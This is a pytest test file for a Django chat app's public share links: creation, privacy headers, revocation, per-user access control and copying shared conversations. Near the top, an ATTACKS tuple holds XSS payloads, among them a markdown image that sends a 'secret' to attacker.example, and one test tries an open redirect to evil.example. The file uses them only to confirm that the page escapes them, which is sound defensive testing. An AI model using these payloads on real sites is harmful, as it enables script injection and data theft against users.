"""Conversations' share links: creating, the public page, updating, revoking, the list
of all, and copying a share."""

from __future__ import annotations

import base64
import re
from datetime import timedelta
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.utils import timezone

from chat.models import Conversation, Message, ShareLink

pytestmark = pytest.mark.django_db

ATTACKS = (
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](https://attacker.example/p.png?q=secret)",
    '<div hx-get="/" hx-trigger="load">',
)
UPSTREAM = "api.upstream-secret.example"
TOKEN_RE = re.compile(r"^[A-Za-z0-9_-]{43,}$")


@pytest.fixture
def conversation(alice):
    """Alice's conversation: a prompt, two choices, a follow-up under the first, and a
    regeneration in another branch."""
    conversation = Conversation.objects.create(
        owner=alice,
        title="Recursion basics",
        system_prompt="Be brief.",
        started_at=timezone.now(),
        settings={"model": "kimi-k2-thinking", "temperature": 0.4, "stream": True},
    )
    user = _message(conversation, None, role="user", content="What is recursion?")
    sent = timezone.now() - timedelta(seconds=3)
    answer = _message(
        conversation,
        user,
        content="**Recursion** is a function calling itself.",
        reasoning="The user asks about recursion; reasoning text here.",
        sent_at=sent,
        first_reasoning_at=sent + timedelta(seconds=0.5),
        first_content_at=sent + timedelta(seconds=1),
        finished_at=sent + timedelta(seconds=2),
        usage={"prompt_tokens": 3, "completion_tokens": 5, "total_tokens": 8},
        error=f"Could not connect to {UPSTREAM}:443.",
    )
    other = _message(conversation, user, content="Second choice.", choice_index=1)
    Message.objects.filter(pk=other.pk).update(batch=answer.batch)
    follow = _message(conversation, answer, role="user", content="Give an example.")
    _message(conversation, user, content="Regenerated in another branch.")
    conversation.current_leaf = follow
    conversation.save()
    return conversation


def _message(conversation, parent, **fields):
    defaults = {
        "role": "assistant",
        "status": "complete",
        "model": "kimi-k2-thinking",
        "finish_reason": "stop",
        "upstream": UPSTREAM,
        "request_params": {"model": "kimi-k2-thinking", "temperature": 0.4, "max_tokens": 64},
    }
    if fields.get("role") in ("user", "tool"):
        defaults = {"role": fields["role"]}
    return Message.objects.create(
        conversation=conversation, parent=parent, **{**defaults, **fields}
    )


def _share(client, conversation, *, include_reasoning=True) -> ShareLink:
    data = {"include_reasoning": "on"} if include_reasoning else {}
    response = client.post(f"/c/{conversation.pk}/share/", data)
    assert response.status_code == 302
    return ShareLink.objects.filter(conversation=conversation).latest("id")


def test_the_share_page_has_the_form_with_reasoning_checked(alice_client, conversation):
    html = alice_client.get(f"/c/{conversation.pk}/share/").content.decode()
    assert "Include reasoning" in html and "Create share link" in html
    assert re.search(r'name="include_reasoning"[^>]*checked', html)


def test_creating_a_link_shows_its_full_url(alice_client, conversation):
    link = _share(alice_client, conversation)
    html = alice_client.get(f"/c/{conversation.pk}/share/").content.decode()
    assert f"http://testserver/s/{link.token}/" in html
    assert link.owner == conversation.owner and link.title == "Recursion basics"


def test_a_token_is_long_random_urlsafe_and_not_the_id(alice_client, conversation):
    first = _share(alice_client, conversation)
    second = _share(alice_client, conversation)
    for link in (first, second):
        assert TOKEN_RE.match(link.token)
        assert len(base64.urlsafe_b64decode(link.token + "=" * (-len(link.token) % 4))) >= 16
        assert link.token not in (str(link.pk), str(conversation.pk))
    assert first.token != second.token


@pytest.mark.parametrize("include_reasoning", [True, False])
def test_the_public_page_shows_reasoning_only_when_included(
    alice_client, client, conversation, include_reasoning
):
    link = _share(alice_client, conversation, include_reasoning=include_reasoning)
    client.logout()
    html = client.get(f"/s/{link.token}/").content.decode()
    assert "<strong>Recursion</strong> is a function calling itself." in html
    assert ("reasoning text here" in html) is include_reasoning
    assert ('aria-label="Reasoning"' in html) is include_reasoning
    stored = str(ShareLink.objects.get(pk=link.pk).snapshot)
    assert ("reasoning text here" in stored) is include_reasoning


def test_the_public_page_needs_no_login_and_shows_the_path_with_figures(
    alice_client, client, conversation
):
    link = _share(alice_client, conversation)
    client.logout()
    response = client.get(f"/s/{link.token}/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Be brief." in html and "What is recursion?" in html and "Give an example." in html
    assert "Second choice." in html and "choice 2/2" in html
    assert "Regenerated in another branch." not in html
    assert "Max tokens" in html and "64" in html  # parameters sent
    assert "Completion tokens" in html and "Total time" in html  # metrics
    assert "Sign in to continue" in html and "Continue in my playground" not in html
    targets = re.findall(r'data-copy-message="#([\w-]+)"', html)
    assert targets and all(f'id="{t}"' in html for t in targets)  # each Copy has its answer


def test_the_public_page_sends_privacy_headers_and_robots_meta(alice_client, client, conversation):
    link = _share(alice_client, conversation)
    client.logout()
    response = client.get(f"/s/{link.token}/")
    assert response["X-Robots-Tag"] == "noindex, nofollow"
    assert response["Referrer-Policy"] == "no-referrer"
    assert response["Cache-Control"] == "no-store"
    assert '<meta name="robots" content="noindex">' in response.content.decode()


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.urls += [v or "" for k, v in attrs if k in ("href", "action", "src", "hx-get")]


def test_the_public_page_shows_nothing_of_the_owner(alice_client, client, conversation):
    link = _share(alice_client, conversation)
    client.logout()
    html = client.get(f"/s/{link.token}/").content.decode()
    for secret in ("alice-owner", "alice@owner.example", UPSTREAM, "Could not connect"):
        assert secret not in html
    parser = _Links()
    parser.feed(html)
    paths = [urlsplit(url).path for url in parser.urls]
    assert not any(f"/c/{conversation.pk}/" in p for p in paths)
    assert not any(re.search(r"/\d+/", p) for p in paths)  # no database id in any link
    assert "Rename" not in html and 'name="prompt"' not in html  # nothing to edit


def test_update_keeps_the_url_and_shows_new_messages(alice_client, client, conversation):
    link = _share(alice_client, conversation)
    assert "A brand new prompt" not in client.get(f"/s/{link.token}/").content.decode()
    new = _message(
        conversation, conversation.current_leaf, role="user", content="A brand new prompt"
    )
    conversation.current_leaf = new
    conversation.save()
    response = alice_client.post(f"/shares/{link.token}/update/")
    assert response.status_code == 302 and response.url == "/shares/"
    updated = ShareLink.objects.get(pk=link.pk)
    assert updated.token == link.token
    assert "A brand new prompt" in client.get(f"/s/{link.token}/").content.decode()


def test_update_returns_to_the_page_it_came_from_but_never_elsewhere(alice_client, conversation):
    link = _share(alice_client, conversation)
    back = f"/c/{conversation.pk}/share/"
    assert alice_client.post(f"/shares/{link.token}/update/", {"next": back}).url == back
    evil = alice_client.post(f"/shares/{link.token}/update/", {"next": "https://evil.example/"})
    assert evil.url == "/shares/"


def test_revoke_answers_404_at_once(alice_client, client, conversation):
    link = _share(alice_client, conversation)
    assert client.get(f"/s/{link.token}/").status_code == 200
    assert alice_client.post(f"/shares/{link.token}/revoke/").status_code == 302
    assert client.get(f"/s/{link.token}/").status_code == 404
    assert alice_client.post(f"/s/{link.token}/continue/").status_code == 404
    assert alice_client.post(f"/shares/{link.token}/update/").status_code == 404
    assert ShareLink.objects.get(pk=link.pk).revoked_at is not None


def test_a_deleted_conversation_takes_its_links_down(alice_client, client, conversation):
    link = _share(alice_client, conversation)
    Conversation.objects.filter(pk=conversation.pk).update(deleted_at=timezone.now())
    assert client.get(f"/s/{link.token}/").status_code == 404


def test_the_list_says_when_a_conversation_was_deleted(alice_client, conversation):
    link = _share(alice_client, conversation)
    Conversation.objects.filter(pk=conversation.pk).update(deleted_at=timezone.now())
    html = alice_client.get("/shares/").content.decode()
    assert "Conversation deleted" in html and f"/shares/{link.token}/update/" not in html
    assert alice_client.post(f"/shares/{link.token}/update/").status_code == 404


@pytest.mark.parametrize("token", ["nope", "A" * 43, "1"])
def test_an_unknown_token_is_404(client, token):
    assert client.get(f"/s/{token}/").status_code == 404


def test_the_list_shows_every_link_and_its_state(alice_client, conversation):
    live = _share(alice_client, conversation)
    hidden = _share(alice_client, conversation, include_reasoning=False)
    alice_client.post(f"/shares/{hidden.token}/revoke/")
    html = alice_client.get("/shares/").content.decode()
    assert "Recursion basics" in html
    assert "Live" in html and "Revoked" in html
    assert "Reasoning included" in html and "Reasoning not included" in html
    assert f"/shares/{live.token}/update/" in html and f"/shares/{live.token}/revoke/" in html
    assert f"/shares/{hidden.token}/update/" not in html


def test_continue_copies_into_the_readers_account(alice_client, client, bob, conversation):
    link = _share(alice_client, conversation)
    before = list(conversation.messages.order_by("id").values_list("id", "content", "parent_id"))
    client.force_login(bob)
    assert "Continue in my playground" in client.get(f"/s/{link.token}/").content.decode()
    response = client.post(f"/s/{link.token}/continue/")
    copy = Conversation.objects.get(owner=bob)
    assert response.status_code == 302 and response.url == f"/c/{copy.pk}/"
    assert copy.system_prompt == "Be brief." and copy.started_at is not None
    assert copy.settings["temperature"] == 0.4 and copy.forked_from is None
    rows = list(copy.messages.order_by("id"))
    assert [m.content for m in rows] == [
        "What is recursion?",
        "**Recursion** is a function calling itself.",
        "Second choice.",
        "Give an example.",
    ]
    assert rows[1].parent == rows[0] and rows[2].parent == rows[0] and rows[3].parent == rows[1]
    assert rows[1].batch == rows[2].batch and rows[1].reasoning.endswith("reasoning text here.")
    assert rows[1].usage["completion_tokens"] == 5 and rows[1].finished_at is not None
    assert rows[1].upstream == "" and rows[1].error == ""
    assert copy.current_leaf == rows[3]
    conversation.refresh_from_db()
    after = list(conversation.messages.order_by("id").values_list("id", "content", "parent_id"))
    assert after == before and conversation.owner.username == "alice-owner"


def test_continue_without_reasoning_copies_none(alice_client, client, bob, conversation):
    link = _share(alice_client, conversation, include_reasoning=False)
    client.force_login(bob)
    client.post(f"/s/{link.token}/continue/")
    copy = Conversation.objects.get(owner=bob)
    assert not any(m.reasoning for m in copy.messages.all())


def test_anonymous_continue_redirects_to_login(alice_client, client, conversation):
    link = _share(alice_client, conversation)
    client.logout()
    response = client.post(f"/s/{link.token}/continue/")
    assert response.status_code == 302 and response.url.startswith("/accounts/login/")
    assert Conversation.objects.count() == 1


@pytest.mark.parametrize(
    ("method", "url"),
    [
        ("get", "/c/{pk}/share/"),
        ("post", "/c/{pk}/share/"),
        ("post", "/shares/{token}/update/"),
        ("post", "/shares/{token}/revoke/"),
    ],
)
@pytest.mark.parametrize("htmx", [False, True])
def test_bob_gets_404_for_alices_links_and_nothing_changes(
    alice_client, client, bob, conversation, method, url, htmx
):
    link = _share(alice_client, conversation)
    snapshot = link.snapshot
    client.force_login(bob)
    headers = {"HX-Request": "true"} if htmx else {}
    target = url.format(pk=conversation.pk, token=link.token)
    response = getattr(client, method)(target, {"include_reasoning": "on"}, headers=headers)
    assert response.status_code == 404
    link.refresh_from_db()
    assert link.revoked_at is None and link.snapshot == snapshot
    assert ShareLink.objects.count() == 1


def test_bobs_list_has_none_of_alices_links(alice_client, client, bob, conversation):
    link = _share(alice_client, conversation)
    client.force_login(bob)
    html = client.get("/shares/").content.decode()
    assert link.token not in html and "Recursion basics" not in html


@pytest.mark.parametrize(
    ("method", "url"),
    [
        ("get", "/c/1/share/"),
        ("get", "/shares/"),
        ("post", "/shares/x/update/"),
        ("post", "/shares/x/revoke/"),
        ("post", "/s/x/continue/"),
    ],
)
def test_share_management_needs_login(client, method, url):
    response = getattr(client, method)(url)
    assert response.status_code == 302 and response.url.startswith("/accounts/login/")


@pytest.mark.parametrize(
    ("method", "url"),
    [
        ("get", "/shares/x/update/"),
        ("post", "/shares/"),
        ("post", "/s/x/"),
    ],
)
def test_wrong_methods_are_refused(alice_client, method, url):
    assert getattr(alice_client, method)(url).status_code == 405


def _tags(html: str) -> list[tuple[str, dict]]:
    class Tags(HTMLParser):
        tags: list = []

        def handle_starttag(self, tag, attrs):
            self.tags.append((tag, dict(attrs)))

    parser = Tags()
    parser.tags = []
    parser.feed(html)
    return parser.tags


@pytest.mark.parametrize("include_reasoning", [True, False])
def test_attack_strings_are_inert_on_the_public_page(
    alice_client, client, alice, include_reasoning
):
    text = "\n\n".join(ATTACKS)
    conversation = Conversation.objects.create(
        owner=alice, title=ATTACKS[0] + ATTACKS[3], system_prompt=text, started_at=timezone.now()
    )
    user = _message(conversation, None, role="user", content=text)
    leaf = _message(conversation, user, content=text, reasoning=text, model=ATTACKS[0])
    conversation.current_leaf = leaf
    conversation.save()
    link = _share(alice_client, conversation, include_reasoning=include_reasoning)
    client.logout()
    html = client.get(f"/s/{link.token}/").content.decode()
    tags = _tags(html)
    assert "<img" not in html
    assert not [t for t, a in tags if t == "img"]
    assert not [a for t, a in tags if (a.get("href") or "").lower().startswith("javascript:")]
    assert not [a for t, a in tags if "hx-get" in a or "hx-trigger" in a]
    assert not [a for t, a in tags if "attacker.example" in (a.get("src") or "")]
    # The text itself is still there for the reader, escaped.
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


@pytest.fixture
def tool_loop(alice):
    """A call to get_weather, the result Alice sent (marked failed), and the answer."""
    conversation = Conversation.objects.create(owner=alice, started_at=timezone.now())
    user = _message(conversation, None, role="user", content="Weather in Paris?")
    call = {"id": "call_7", "type": "function"}
    call["function"] = {"name": "get_weather", "arguments": '{"location": "Paris"}'}
    asked = _message(conversation, user, content="", tool_calls=[call], finish_reason="tool_calls")
    result = {"tool_call_id": "call_7", "name": "get_weather", "content": "<b>Timeout</b>"}
    results = _message(conversation, asked, role="tool", tool_results=[{**result, "failed": True}])
    conversation.current_leaf = _message(conversation, results, content="The service is down.")
    conversation.save()
    return conversation


def test_the_public_page_shows_tool_calls_and_the_results_sent(alice_client, client, tool_loop):
    link = _share(alice_client, tool_loop)
    html = client.get(f"/s/{link.token}/").content.decode()
    assert '<code class="tool-name">get_weather</code>' in html
    assert "&quot;location&quot;: &quot;Paris&quot;" in html  # pretty-printed, escaped
    assert 'aria-label="Tool results"' in html and "This call failed" in html
    assert "&lt;b&gt;Timeout&lt;/b&gt;" in html and "<b>Timeout" not in html
    assert "Send results" not in html and "Result for get_weather" in html
    assert "The service is down." in html


def test_continue_copies_the_tool_results_too(alice_client, client, bob, tool_loop):
    link = _share(alice_client, tool_loop)
    client.force_login(bob)
    client.post(f"/s/{link.token}/continue/")
    copy = Conversation.objects.get(owner=bob)
    roles = [m.role for m in copy.messages.order_by("id")]
    assert roles == ["user", "assistant", "tool", "assistant"]
    results = copy.messages.get(role="tool").tool_results
    assert results[0]["tool_call_id"] == "call_7" and results[0]["failed"] is True
